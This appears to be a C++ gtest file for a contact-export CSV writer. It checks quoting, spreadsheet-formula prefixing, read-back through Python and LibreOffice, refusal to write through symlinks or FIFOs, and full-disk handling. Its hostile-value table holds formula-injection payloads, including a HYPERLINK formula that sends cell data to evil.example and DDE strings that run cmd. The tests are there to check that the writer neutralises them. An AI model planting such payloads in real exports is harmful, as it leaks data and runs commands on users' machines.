// The CSV writer: what each column holds, how values are written, and what
// Python's csv module and LibreOffice read back; files that are not what
// they should be at the CSV's name, and a disk that fills up.
#include <exporting/csv_file.h>

#include <csv_readers.h>
#include <file_size_limit.h>
#include <msg_reader.h>

#include <gtest/gtest.h>

#include <set>
#include <sys/stat.h>
#include <unistd.h>

using namespace exporting;
using testsupport::CsvRows;

namespace {

size_t Column(std::string_view name) {
    const auto& names = CsvColumnNames();
    return size_t(std::find(names.begin(), names.end(), name) - names.begin());
}

// Values that break naive CSV writers and readers, each with the text a
// reader must give back: the value itself, empty for the single blank of a
// present but empty item, and the value after "'" where a spreadsheet would
// take it for a formula.
struct Hostile {
    std::string value, readBack;
};
const std::vector<Hostile>& HostileValues() {
    static const std::vector<Hostile> values{
        {"Smith, John", "Smith, John"},
        {"\"Quoted\" start", "\"Quoted\" start"},
        {"say \"hi\", then go", "say \"hi\", then go"},
        {"\"", "\""},
        {"two\r\nlines", "two\r\nlines"},
        {"lf\nonly", "lf\nonly"},
        {"trailing CR LF\r\n", "trailing CR LF\r\n"},
        {" blanks around ", " blanks around "},
        {" ", ""},
        {"Zo\xC3\xAB \xE6\x9D\xB1\xE4\xBA\xAC \xF0\x9F\x99\x82", "Zo\xC3\xAB \xE6\x9D\xB1\xE4\xBA\xAC \xF0\x9F\x99\x82"},
        {"=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"},
        {"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
        {"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
        {"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
        {"\t=1+1", "'\t=1+1"},
        {"\r=1+1", "'\r=1+1"},
        {"+1 617 555 0100", "+1 617 555 0100"},
        {"+44 (0)20 7946.0958 x12", "+44 (0)20 7946.0958 x12"},
        {"-", "'-"},
        {"02142", "02142"},
        {std::string(450, 'w'), std::string(450, 'w')},
    };
    return values;
}

// One row per hostile value, the value in every column.
std::vector<ContactValues> HostileRows() {
    std::vector<ContactValues> rows;
    for (const auto& h : HostileValues()) {
        ContactValues v;
        for (auto source : CsvColumnSources()) v[std::string(source)] = h.value;
        rows.push_back(std::move(v));
    }
    return rows;
}

// A value as Calc keeps it in a cell: each line break (CR LF, CR, LF) as LF.
std::string AsCalcCell(std::string text) {
    for (size_t at; (at = text.find("\r\n")) != std::string::npos;) text.erase(at, 1);
    for (auto& c : text) c = c == '\r' ? '\n' : c;
    return text;
}

std::vector<std::string> HeaderFields() { return {CsvColumnNames().begin(), CsvColumnNames().end()}; }

}  // namespace

TEST(CsvColumns, EachHeaderNameSaysWhatItsColumnHolds) {
    EXPECT_EQ(CsvColumnNames().size(), 40u);
    std::set<std::string_view> names(CsvColumnNames().begin(), CsvColumnNames().end());
    std::set<std::string_view> sources(CsvColumnSources().begin(), CsvColumnSources().end());
    EXPECT_EQ(names.size(), 40u) << "a header name is used twice";
    EXPECT_EQ(sources.size(), 40u) << "a Notes item fills two columns";
    // A header name is the item's own name, or the contact field it fills.
    const std::map<std::string_view, std::string_view> renamed{
        {"AssistantName", "Assistant"}, {"HomeAddressCountry", "Country"}, {"HomeAddressCity", "City"}};
    for (size_t i = 0; i < 40; ++i) {
        auto it = renamed.find(CsvColumnNames()[i]);
        EXPECT_EQ(it == renamed.end() ? CsvColumnNames()[i] : it->second, CsvColumnSources()[i]) << "column " << i + 1;
    }
    // Both addresses whole, and every phone kind the header names.
    for (auto item : {"StreetAddress", "City", "State", "Zip", "Country", "OfficeStreetAddress", "OfficeCity",
                      "OfficeState", "OfficeZip", "OfficeCountry", "OfficePhoneNumber", "PhoneNumber",
                      "CellPhoneNumber", "PersPager", "Work2Phone", "Work3Phone", "Home2Phone"})
        EXPECT_TRUE(sources.count(item)) << item;
    // The first 24 names keep their places.
    EXPECT_EQ(Column("CellPhoneNumber"), 6u);
    EXPECT_EQ(Column("StreetAddress"), 21u);
    EXPECT_EQ(Column("AssistantName"), 23u);
}

TEST(CsvFile, ValuesAreQuotedPrefixedOrLeftAsTheyAre) {
    const struct {
        std::string value, field;
    } cases[] = {
        {"", ""},
        {" ", ""},
        {"Anna", "Anna"},
        {"Smith, John", "\"Smith, John\""},
        {"\"Q\" start", "\"\"\"Q\"\" start\""},
        {"=1,2", "\"'=1,2\""},
        {"\rx", "\"'\rx\""},
        {"+1 (617) 555-0100", "+1 (617) 555-0100"},
        {"-1.617/555", "-1.617/555"},
        {"+1 617 555 0100 x 12", "+1 617 555 0100 x 12"},
        {"+SUM(1)", "'+SUM(1)"},
        {"-x1", "'-x1"},       // a cell reference, not an extension
        {"+1/x2", "'+1/x2"},   // the same after an operator
        {"+1 x", "'+1 x"},     // an "x" with no number after it
        {"+ ( )", "'+ ( )"},   // no digit
        {"x=1", "x=1"},
    };
    for (const auto& c : cases) EXPECT_EQ(CsvField(c.value), c.field) << c.value;
}

TEST(CsvFile, PythonAndLibreOfficeReadEveryValueBack) {
    testsupport::TempDir dir;
    const std::string path = dir / "People.csv";
    const auto rows = HostileRows();
    for (int run = 0; run < 2; ++run) {
        CsvAppender out(path);
        for (const auto& row : rows) ASSERT_TRUE(out.AppendRow(row)) << out.Problem();
    }
    // Every line ends in CR LF (a line break inside a quoted value aside).
    EXPECT_EQ(testsupport::ReadFile(path).substr(0, CsvHeader().size()), CsvHeader());
    EXPECT_TRUE(CsvHeader().ends_with(",OfficeState\r\n"));
    EXPECT_TRUE(testsupport::ReadFile(path).ends_with(std::string(450, 'w') + "\r\n"));
    // Python: the header, then every value of every row, twice.
    CsvRows read;
    ASSERT_TRUE(testsupport::ReadCsvWithPython(path, &read));
    ASSERT_EQ(read.size(), 2 * (1 + rows.size()));
    for (size_t r = 0; r < read.size(); ++r) {
        const size_t k = r % (1 + rows.size());
        const std::vector<std::string> expected =
            k == 0 ? HeaderFields() : std::vector<std::string>(40, HostileValues()[k - 1].readBack);
        EXPECT_EQ(read[r], expected) << "record " << r;
    }
    // LibreOffice, every column as text: the same values, except that Calc
    // keeps a line break in a cell as LF.
    CsvRows calc;
    ASSERT_TRUE(testsupport::ReadCsvWithCalc(path, testsupport::CalcImport::AllText, &calc));
    ASSERT_EQ(calc.size(), read.size());
    for (size_t r = 0; r < read.size(); ++r) {
        std::vector<std::string> expected = read[r];
        for (auto& field : expected) field = AsCalcCell(field);
        EXPECT_EQ(calc[r], expected) << "record " << r;
    }
}

TEST(CsvFile, LibreOfficeEvaluatingFormulasShowsThemAsText) {
    testsupport::TempDir dir;
    const std::string path = dir / "People.csv";
    {
        CsvAppender out(path);
        for (const auto& row : HostileRows()) ASSERT_TRUE(out.AppendRow(row)) << out.Problem();
        // The same file with one formula as a writer without the rule puts it.
        ASSERT_TRUE(out.Append("=1+1\r\n"));
    }
    CsvRows calc;
    ASSERT_TRUE(testsupport::ReadCsvWithCalc(path, testsupport::CalcImport::EvaluateFormulas, &calc));
    ASSERT_EQ(calc.size(), 2 + HostileValues().size());
    EXPECT_EQ(calc.back().at(0), "2") << "the import did not evaluate formulas";
    for (size_t k = 0; k < HostileValues().size(); ++k) {
        const std::string& readBack = HostileValues()[k].readBack;
        if (readBack.empty() || readBack[0] != '\'') continue;
        EXPECT_EQ(calc[1 + k][0], AsCalcCell(readBack)) << HostileValues()[k].value;
    }
}

TEST(CsvFile, OnlyARegularFileIsWrittenAndNothingElseAtItsNameIsTouched) {
    testsupport::TempDir dir;
    const std::string victim = dir.Write("bashrc", "export PATH=/usr/bin\n");
    const struct {
        const char* what;
        std::function<void(const std::string&)> plant;
        const char* problem;
    } cases[] = {
        {"symbolic link", [&](const std::string& p) { ASSERT_EQ(::symlink(victim.c_str(), p.c_str()), 0); }, "a symbolic link is at its name"},
        {"dangling link", [&](const std::string& p) { ASSERT_EQ(::symlink((dir / "new").c_str(), p.c_str()), 0); }, "a symbolic link is at its name"},
        {"FIFO", [](const std::string& p) { ASSERT_EQ(::mkfifo(p.c_str(), 0600), 0); }, "it is not a regular file"},
        {"folder", [](const std::string& p) { std::filesystem::create_directory(p); }, "it is not a regular file"},
    };
    for (const auto& c : cases) {
        const std::string path = dir / (std::string(c.what) + ".csv");
        c.plant(path);
        CsvAppender out(path);
        // A FIFO must not block (were it to, the test would hang until the
        // test runner's time limit ends it).
        EXPECT_FALSE(out.AppendRow({{"FirstName", "Mallory"}})) << c.what;
        EXPECT_EQ(out.Problem(), c.problem) << c.what;
        EXPECT_FALSE(out.AppendRow({{"FirstName", "Mallory"}})) << c.what;
        EXPECT_EQ(testsupport::ReadFile(victim), "export PATH=/usr/bin\n") << c.what;
        EXPECT_FALSE(std::filesystem::exists(dir / "new")) << c.what;
        // Once a regular file can be made there, the next row comes with its header.
        std::filesystem::remove(path);
        EXPECT_TRUE(out.AppendRow({{"FirstName", "Anna"}})) << c.what;
        EXPECT_EQ(testsupport::ReadFile(path), CsvHeader() + CsvRow({{"FirstName", "Anna"}})) << c.what;
    }
}

TEST(CsvFile, AFullDiskLeavesWholeRowsAndTheNextRunStartsALine) {
    testsupport::TempDir dir;
    const std::string path = dir / "People.csv";
    ContactValues anna{{"FirstName", "Anna"}, {"Spouse", std::string(300, 's')}, {"Manager", std::string(300, 'm')}};
    {
        CsvAppender out(path);
        ASSERT_TRUE(out.AppendRow(anna));
    }
    const std::string before = testsupport::ReadFile(path);
    {
        // Room for the header but not for the row: neither is written.
        testsupport::FileSizeLimit limit(before.size() + CsvHeader().size() + 100);
        CsvAppender out(path);
        EXPECT_FALSE(out.AppendRow(anna));
        EXPECT_FALSE(out.Problem().empty());
        EXPECT_EQ(testsupport::ReadFile(path), before);
        // A row that fits is written with the header the failed one lacked.
        const ContactValues ben{{"FirstName", "Ben"}};
        EXPECT_TRUE(out.AppendRow(ben)) << out.Problem();
        EXPECT_EQ(testsupport::ReadFile(path), before + CsvHeader() + CsvRow(ben));
        EXPECT_FALSE(out.AppendRow(anna));
        EXPECT_EQ(testsupport::ReadFile(path), before + CsvHeader() + CsvRow(ben));
    }
    // A file an older writer or a crash left without its last line end.
    const std::string cut = dir.Write("cut.csv", "a,b");
    CsvAppender out(cut);
    ASSERT_TRUE(out.AppendRow(anna));
    EXPECT_EQ(testsupport::ReadFile(cut), "a,b\r\n" + CsvHeader() + CsvRow(anna));
}
